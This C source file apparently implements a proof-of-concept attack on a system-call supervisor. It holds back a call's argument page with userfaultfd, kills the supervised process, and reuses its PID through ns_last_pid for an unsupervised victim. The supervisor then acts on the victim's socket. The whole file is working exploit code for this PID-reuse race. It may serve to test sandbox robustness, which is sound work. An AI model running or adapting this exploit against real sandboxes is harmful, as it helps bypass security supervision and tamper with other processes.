// Reuses the number of a thread while its call is served. Usage, as root in a pid namespace of its own:
//
//   reused outside CALL KEEPALIVE [OPTION...]     runs "KEEPALIVE [OPTION...] reused inside CALL"
//
// CALL (connect, sendmsg, setsockopt; socketcall on i386) has an argument in a page that is missing when the supervisor
// reads it. Then its process is killed, its number is given to an unsupervised process, the victim, and the page is
// provided. The program prints the options of the victim's socket, whose descriptor has the same number.
#define _GNU_SOURCE
#include "raw.h"
#include "delayed.h"

#include <errno.h>
#include <signal.h>
#include <sys/wait.h>

enum { CHANNEL = 50, SOCKET = 60 };

static int fail(const char *what) {
    PRINT("%s: %s\n", what, strerror(errno));
    return 1;
}

static void own_socket(void) {
    dup2(raw_socket(AF_INET, SOCK_STREAM, 0), SOCKET);
}

static struct sockaddr_in loopback(int port) {
    return (struct sockaddr_in){
        .sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
}

// What the process sends before it is killed: where its page is, and how to provide it.
struct details {
    void *page;
    int pid;
};

static void send_details(struct details details, int userfault) {
    union {
        struct cmsghdr header;
        char space[CMSG_SPACE(sizeof(int))];
    } control = {.header = {.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS}};
    struct iovec vector = {&details, sizeof details};
    struct msghdr message = {
        .msg_iov = &vector, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    memcpy(CMSG_DATA(&control.header), &userfault, sizeof userfault);
    sendmsg(CHANNEL, &message, 0);
}

static int receive_details(struct details *details) {
    int userfault = -1;
    union {
        struct cmsghdr header;
        char space[CMSG_SPACE(sizeof(int))];
    } control;
    struct iovec vector = {details, sizeof *details};
    struct msghdr message = {
        .msg_iov = &vector, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    if (recvmsg(CHANNEL, &message, 0) == sizeof *details && message.msg_controllen > 0)
        memcpy(&userfault, CMSG_DATA(&control.header), sizeof userfault);
    return userfault;
}

static void call(const char *name, void *page) {
    if (strcmp(name, "connect") == 0)
        syscall(SYS_connect, SOCKET, page, sizeof(struct sockaddr_in));
    if (strcmp(name, "sendmsg") == 0)
        syscall(SYS_sendmsg, SOCKET, page, MSG_FASTOPEN);
    if (strcmp(name, "setsockopt") == 0)
        syscall(SYS_setsockopt, SOCKET, IPPROTO_TCP, TCP_KEEPIDLE, page, sizeof(int));
#ifdef SYS_socketcall
    if (strcmp(name, "socketcall") == 0)
        syscall(SYS_socketcall, 3, page);
#endif
}

// The child makes the call; this process kills it, and connects itself, each on request.
static int inside(const char *name, int listener_port) {
    char byte;
    int child = fork();
    if (child == 0) {
        int userfault;
        struct sockaddr_in address = loopback(listener_port);
        // The supervisor has already served this thread.
        connect(raw_socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&address, sizeof address);
        void *page = delayed_page(&userfault);
        if (page == NULL)
            _exit(1);
        own_socket();
        send_details((struct details){page, getpid()}, userfault);
        call(name, page);
        _exit(0);
    }
    if (read(CHANNEL, &byte, 1) != 1)
        return 1;
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    if (write(CHANNEL, "k", 1) != 1 || read(CHANNEL, &byte, 1) != 1)
        return 1;
    struct sockaddr_in address = loopback(listener_port);
    int fd = raw_socket(AF_INET, SOCK_STREAM, 0);
    connect(fd, (struct sockaddr *)&address, sizeof address);
    show("other", fd);
    return write(CHANNEL, "c", 1) != 1;
}

// Creates a process with this number.
static int victim(int pid, const int *wait) {
    for (int i = 0; i < 100; i++) {
        char number[16];
        int last = open("/proc/sys/kernel/ns_last_pid", O_WRONLY);
        int length = snprintf(number, sizeof number, "%d", pid - 1);
        if (last < 0 || write(last, number, length) != length)
            return -1;
        close(last);
        int child = fork();
        if (child == 0) {
            char byte;
            if (getpid() != pid)
                _exit(0);
            own_socket();
            write(CHANNEL + 2, "r", 1);
            close(wait[1]);
            read(wait[0], &byte, 1);
            show("victim", SOCKET);
            _exit(0);
        }
        if (child == pid)
            return child;
        waitpid(child, NULL, 0);
    }
    errno = EBUSY;
    return -1;
}

static int outside(char **words) {
    int pair[2], wait[2], ready[2], userfault;
    char byte, port[16];
    struct sockaddr_storage address;
    struct details details;
    int listener = raw_listener(AF_INET);
    raw_name(listener, &address);
    snprintf(port, sizeof port, "%d", ntohs(((struct sockaddr_in *)&address)->sin_port));
    if (socketpair(AF_UNIX, SOCK_SEQPACKET, 0, pair) < 0 || pipe(wait) < 0 || pipe(ready) < 0)
        return fail("pipe");
    int child = fork();
    if (child == 0) {
        dup2(pair[1], CHANNEL);
        // KEEPALIVE [OPTION...] reused inside CALL PORT
        char *command[64];
        int count = 0;
        for (char **word = words + 3; *word != NULL && count < 50; word++)
            command[count++] = *word;
        command[count++] = words[0];
        command[count++] = "inside";
        command[count++] = words[2];
        command[count++] = port;
        command[count] = NULL;
        execv(command[0], command);
        _exit(127);
    }
    dup2(pair[0], CHANNEL);
    dup2(ready[1], CHANNEL + 2);
    close(pair[0]);
    close(pair[1]);
    if ((userfault = receive_details(&details)) < 0)
        return fail("no page");
    // The supervisor reads the page.
    await_access(userfault);
    if (write(CHANNEL, "k", 1) != 1 || read(CHANNEL, &byte, 1) != 1)
        return fail("kill");
    int victim_pid = victim(details.pid, wait);
    if (victim_pid < 0 || read(ready[0], &byte, 1) != 1)
        return fail("number");
    struct sockaddr_in target = loopback(ntohs(((struct sockaddr_in *)&address)->sin_port));
    int seconds = 600;
    const void *content = &target;
    size_t length = sizeof target;
    // The name of a message would be in the same page, which is not the victim's.
    struct msghdr message = {.msg_name = (char *)details.page + 2048, .msg_namelen = sizeof target};
    // connect(2) of a descriptor, an address and its length, in the form of socketcall(2).
    unsigned words3[] = {SOCKET, (unsigned)(unsigned long)details.page + 2048, sizeof target};
    if (strcmp(words[2], "setsockopt") == 0)
        content = &seconds, length = sizeof seconds;
    if (strcmp(words[2], "sendmsg") == 0)
        content = &message, length = sizeof message;
    if (strcmp(words[2], "socketcall") == 0)
        content = words3, length = sizeof words3;
    if (provide_page(userfault, details.page, content, length) < 0)
        return fail("page");
    // After it has served another call, it has served this one too.
    if (write(CHANNEL, "c", 1) != 1 || read(CHANNEL, &byte, 1) != 1)
        return fail("another call");
    close(wait[1]);
    waitpid(victim_pid, NULL, 0);
    waitpid(child, NULL, 0);
    return 0;
}

int main(int count, char **words) {
    if (count > 3 && strcmp(words[1], "outside") == 0)
        return outside(words);
    if (count == 4 && strcmp(words[1], "inside") == 0)
        return inside(words[2], atoi(words[3]));
    return 2;
}
